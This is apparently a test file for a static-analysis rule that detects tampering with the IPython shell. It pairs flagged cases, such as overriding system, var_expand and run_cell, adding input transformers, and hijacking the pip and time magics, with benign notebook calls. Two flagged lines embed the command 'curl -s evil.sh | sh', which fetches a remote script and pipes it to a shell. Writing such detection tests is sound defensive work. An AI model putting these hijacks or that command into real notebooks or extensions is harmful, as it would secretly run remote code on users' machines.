# Cases for tamper-ipython-shell-override (issue #16, session 23).
import IPython
from IPython import get_ipython
from IPython.core.interactiveshell import InteractiveShell
from IPython.core.magic import register_cell_magic, register_line_magic


def payload(cmd):
    return cmd


def rewrites():
    # ruleid: tamper-ipython-shell-override
    get_ipython().var_expand = lambda cmd, depth=0, formatter=None: "curl -s evil.sh | sh"
    # ruleid: tamper-ipython-shell-override
    get_ipython().system = payload
    ip = get_ipython()
    # ruleid: tamper-ipython-shell-override
    ip.system_raw = payload
    # ruleid: tamper-ipython-shell-override
    setattr(get_ipython(), "system", payload)
    # ruleid: tamper-ipython-shell-override
    InteractiveShell.system = payload
    # ruleid: tamper-ipython-shell-override
    IPython.get_ipython().getoutput = payload
    # ruleid: tamper-ipython-shell-override
    InteractiveShell.instance().run_cell = payload


def transformers(name):
    ip = get_ipython()
    # ruleid: tamper-ipython-shell-override
    get_ipython().input_transformers_cleanup.append(payload)
    # ruleid: tamper-ipython-shell-override
    ip.input_transformers_post.insert(0, payload)
    # ruleid: tamper-ipython-shell-override
    ip.input_transformer_manager.cleanup_transforms.append(payload)
    # ruleid: tamper-ipython-shell-override
    ip.input_transformer_manager.line_transforms = [payload]
    # ruleid: tamper-ipython-shell-override
    ip.ast_transformers.append(payload)
    # ruleid: tamper-ipython-shell-override
    ip.ast_transformers += [payload]
    # ruleid: tamper-ipython-shell-override
    ip.register_magic_function(payload, "line", "pip")
    # ruleid: tamper-ipython-shell-override
    ip.alias_manager.define_alias("ls", "curl -s evil.sh | sh")
    # ruleid: tamper-ipython-shell-override
    setattr(ip, name, payload)


def after_a_call():
    ip = get_ipython()
    ip.run_line_magic("load_ext", "autoreload")
    # ruleid: tamper-ipython-shell-override
    ip.system = payload
    # ruleid: tamper-ipython-shell-override
    ip.getoutput = payload


def load_ipython_extension(shell):
    # ruleid: tamper-ipython-shell-override
    shell.system = payload


class Loader:
    def __init__(self, shell):
        self.shell = shell

    def hook(self):
        # ruleid: tamper-ipython-shell-override
        self.shell.var_expand = payload


# ruleid: tamper-ipython-shell-override
@register_line_magic
def pip(line):
    return payload(line)


# ruleid: tamper-ipython-shell-override
@register_cell_magic("time")
def fake_time(line, cell):
    return payload(cell)


def benign(model):
    ip = get_ipython()
    # ok: tamper-ipython-shell-override
    ip.run_line_magic("matplotlib", "inline")
    # ok: tamper-ipython-shell-override
    ip.run_line_magic("config", "InlineBackend.figure_format = 'retina'")
    # ok: tamper-ipython-shell-override
    InteractiveShell.ast_node_interactivity = "all"
    # ok: tamper-ipython-shell-override
    ip.events.register("post_run_cell", lambda result: print(result))
    # ok: tamper-ipython-shell-override
    ip.magics_manager.lsmagic()
    # ok: tamper-ipython-shell-override
    out = ip.input_transformer_manager.transform_cell("x = 1")
    # ok: tamper-ipython-shell-override
    ip.user_ns["model"] = model
    # ok: tamper-ipython-shell-override
    model.system = "x"
    # ok: tamper-ipython-shell-override
    model.compile = payload
    # ok: tamper-ipython-shell-override
    ip.system("nvidia-smi")
    return out


# ok: tamper-ipython-shell-override
@register_line_magic
def lr_finder(line):
    return float(line)
